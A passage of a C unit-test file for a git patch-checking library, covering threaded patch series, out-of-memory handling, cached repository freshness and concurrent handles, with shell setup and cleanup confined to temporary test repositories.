 * extra threads read through, so the caller's thread reads those and the
 * threads the others; the result is git's with any number of threads. */
START_TEST(test_patch_series_on_threads)
{
    static const unsigned counts[] = {1, 2, 0};
    char repo[64], wt[96], tree[96], diff_path[96];
    size_t len, len1;
    int status;
    char *wide = make_wide_repo(repo, &len), *first_text, *json1 = NULL;
    snprintf(wt, sizeof wt, "%s.wt", repo);
    snprintf(tree, sizeof tree, "%s.tree", repo);
    snprintf(diff_path, sizeof diff_path, "%s.diff", repo);
    t_write_file("/tmp", diff_path + strlen("/tmp/"), wide, len, 0);
    /* first: line 20 of d0's files; then the wide patch (line 15 of all) */
    first_text = t_sh_out(&len1, &status,
                          "git clone -q '%s' '%s' && cd '%s' && sed -i '20s/$/ early/' d0/f*.txt && git diff && "
                          "git commit -q -am first && git apply --index '%s' && git commit -q -m wide",
                          repo, wt, wt, diff_path);
    ck_assert_int_eq(status, 0);
    for (size_t k = 0; k < SBX__ARRAY_LEN(counts); k++) {
        sbx_patch *first = sbx_patch_new(), *p = sbx_patch_new();
        char *json = NULL;
        ck_assert_int_eq(sbx_patch_set_threads(p, counts[k]), SBX_OK);
        ck_assert_int_eq(sbx_patch_set_base(first, repo, NULL), SBX_OK);
        ck_assert_int_eq(sbx_patch_load_data(first, (const uint8_t *)first_text, len1), SBX_OK);
        ck_assert_msg(sbx_patch_check(first) == SBX_OK, "%s", sbx_patch_last_error(first));
        ck_assert_uint_eq(sbx_patch_file_count(first), 100);
        ck_assert_int_eq(sbx_patch_set_base_patch(p, first), SBX_OK);
        sbx_patch_free(first);
        ck_assert_int_eq(sbx_patch_load_data(p, (const uint8_t *)wide, len), SBX_OK);
        ck_assert_msg(sbx_patch_check(p) == SBX_OK, "threads %u: %s", counts[k], sbx_patch_last_error(p));
        ck_assert_int_eq(t_sh("rm -rf '%s'", tree), 0);
        ck_assert_int_eq(sbx_patch_save_tree_dir(p, tree), SBX_OK);
        ck_assert_msg(t_sh("diff -r --exclude=.git '%s' '%s' >&2", wt, tree) == 0, "threads %u: not git's tree",
                      counts[k]);
        ck_assert_int_eq(sbx_patch_to_json(p, &json), SBX_OK);
        if (!json1)
            json1 = json;
        else {
            ck_assert_str_eq(json, json1);
            sbx_free(json);
        }
        sbx_patch_free(p);
    }
    sbx_free(json1);
    free(wide);
    free(first_text);
    t_sh("rm -rf '%s' '%s' '%s'", wt, tree, diff_path);
    remove_tree(repo);
}
END_TEST

static sbx_status oom_series(void *ctx)
{
    const char *repo = ctx;
    sbx_patch *first = sbx_patch_new(), *p = sbx_patch_new();
    sbx_status st = first && p ? sbx_patch_set_base(first, repo, NULL) : SBX_E_NOMEM;
    if (st == SBX_OK)
        st = load(first, multi_diff);
    if (st == SBX_OK)
        st = sbx_patch_check(first);
    if (st == SBX_OK)
        st = sbx_patch_set_base_patch(p, first);
    if (st == SBX_OK)
        st = add(p, SBX_PATCH_MODIFIED, "docs/new.md", "# Newer\n", 0644);
    if (st == SBX_OK)
        st = sbx_patch_check(p);
    if (st == SBX_OK)
        ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
    sbx_patch_free(first);
    sbx_patch_free(p);
    return st;
}

START_TEST(test_patch_out_of_memory)
{
    char repo[64];
    struct oom_ctx none = {NULL, 0}, one = {NULL, 0}, threads = {NULL, 4};
    make_base_repo(repo);
    one.repo = threads.repo = repo;
    ck_assert_int_gt(sbx_test_oom_loop(oom_load_check, &none), 5);
    ck_assert_int_gt(sbx_test_oom_loop(oom_load_check, &one), 5);
    /* Files read and applied ahead on threads: a failure there is one the
     * caller's thread makes good (it applies again itself). */
    ck_assert_int_gt(sbx_test_oom_loop(oom_load_check, &threads), 5);
    ck_assert_int_gt(sbx_test_oom_loop(oom_save_tree, repo), 5);
    ck_assert_int_gt(sbx_test_oom_loop(oom_series, repo), 5);
    remove_tree(repo);
}
END_TEST

/* Repositories are kept open between handles: the next handle must still
 * see a commit made since, and a repository removed and made again at the
 * same path must be read afresh, not the one kept open. */
START_TEST(test_patch_kept_repository_is_never_stale)
{
    char dir[64];
    static const char to_b[] = "diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+b\n";
    static const char to_c[] = "diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-b\n+c\n";
    sbx_patch *p;
    t_git_env();
    make_tmpdir(dir);
    ck_assert_int_eq(t_sh("cd '%s' && git init -q . && echo a > f && git add f && git commit -q -m a", dir), 0);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(p, dir, NULL), SBX_OK);
    ck_assert_int_eq(load(p, to_b), SBX_OK);
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    sbx_patch_free(p);
    /* A new commit: HEAD moved, the kept repository must follow. */
    ck_assert_int_eq(t_sh("cd '%s' && echo b > f && git commit -q -am b", dir), 0);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(p, dir, NULL), SBX_OK);
    ck_assert_int_eq(load(p, to_c), SBX_OK);
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    sbx_patch_free(p);
    /* The same path, another repository: its own objects. */
    ck_assert_int_eq(t_sh("cd '%s' && rm -rf .git f && git init -q . && echo a > f && git add f && "
                          "git commit -q -m again", dir),
                     0);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(p, dir, NULL), SBX_OK);
    ck_assert_int_eq(load(p, to_c), SBX_OK);
    ck_assert_int_eq(sbx_patch_check(p), SBX_E_PATCH);
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_DOES_NOT_APPLY);
    sbx_patch_free(p);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(p, dir, NULL), SBX_OK);
    ck_assert_int_eq(load(p, to_b), SBX_OK);
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    sbx_patch_free(p);
    remove_tree(dir);
}
END_TEST

/* Many handles at once on one repository: each gets a repository of its
 * own (the kept ones are lent to one handle at a time). */
START_TEST(test_patch_handles_at_once_on_one_repository)
{
    char dir[64];
    static const char to_b[] = "diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+b\n";
    sbx_patch *ps[12];
    t_git_env();
    make_tmpdir(dir);
    ck_assert_int_eq(t_sh("cd '%s' && git init -q . && echo a > f && git add f && git commit -q -m a", dir), 0);
    for (size_t i = 0; i < 12; i++) {
        ck_assert_ptr_nonnull(ps[i] = sbx_patch_new());
        ck_assert_int_eq(sbx_patch_set_base(ps[i], dir, NULL), SBX_OK);
        ck_assert_int_eq(load(ps[i], to_b), SBX_OK);
    }
    for (size_t i = 0; i < 12; i++) {
        ck_assert_int_eq(sbx_patch_check(ps[i]), SBX_OK);
        ck_assert_int_eq(sbx_patch_save_tree_file(ps[i], "/dev/null/no"), SBX_E_IO);
    }
    for (size_t i = 0; i < 12; i++)
        sbx_patch_free(ps[i]);
    remove_tree(dir);
}
END_TEST

Suite *sbx_test_suite(void)
{
    Suite *s = suite_create("patch");
    TCase *tc = tcase_create("patch");
    tcase_set_timeout(tc, 60);
    tcase_add_test(tc, test_patch_null_and_arguments);
    tcase_add_test(tc, test_patch_names);
    tcase_add_test(tc, test_patch_error_contract);
    tcase_add_test(tc, test_patch_load_file);
    tcase_add_test(tc, test_patch_unsafe_alone);
    tcase_add_test(tc, test_patch_unsafe_hidden_among_safe_files);
    tcase_add_test(tc, test_patch_unsafe_against_a_base);
    tcase_add_test(tc, test_patch_safe_lookalikes);
    tcase_add_test(tc, test_patch_malformed);
    tcase_add_test(tc, test_patch_binary_without_full_index);
    tcase_add_test(tc, test_patch_truncated_binary_does_not_hang);
    tcase_add_test(tc, test_patch_cut_anywhere);
    tcase_add_test(tc, test_patch_fuzz_findings);
    tcase_add_test(tc, test_patch_limits);
    tcase_add_test(tc, test_patch_limits_on_the_result);
    tcase_add_test(tc, test_patch_git_diff_files);
    tcase_add_test(tc, test_patch_id_matches_git);
    tcase_add_test(tc, test_patch_copy_and_pure_rename);
    tcase_add_test(tc, test_patch_plain_diff_u);
    tcase_add_test(tc, test_patch_check_matches_git);
    tcase_add_test(tc, test_patch_check_names_the_file);
    tcase_add_test(tc, test_patch_json_and_save);
    tcase_add_test(tc, test_patch_json_of_non_utf8_paths);
    tcase_add_test(tc, test_patch_save_tree_file);
    tcase_add_test(tc, test_patch_save_tree_dir);
    tcase_add_test(tc, test_patch_add_file_operations);
    tcase_add_test(tc, test_patch_add_file_errors);
    tcase_add_test(tc, test_patch_threads_same_result);
    tcase_add_test(tc, test_patch_broken_base_repository);
    tcase_add_test(tc, test_patch_hostile_base_tree);
    tcase_add_test(tc, test_patch_series);
    tcase_add_test(tc, test_patch_series_on_threads);
    tcase_add_test(tc, test_patch_set_threads_arguments);
    tcase_add_test(tc, test_patch_out_of_memory);
    tcase_add_test(tc, test_patch_kept_repository_is_never_stale);
    tcase_add_test(tc, test_patch_handles_at_once_on_one_repository);
    suite_add_tcase(s, tc);
    return s;
}
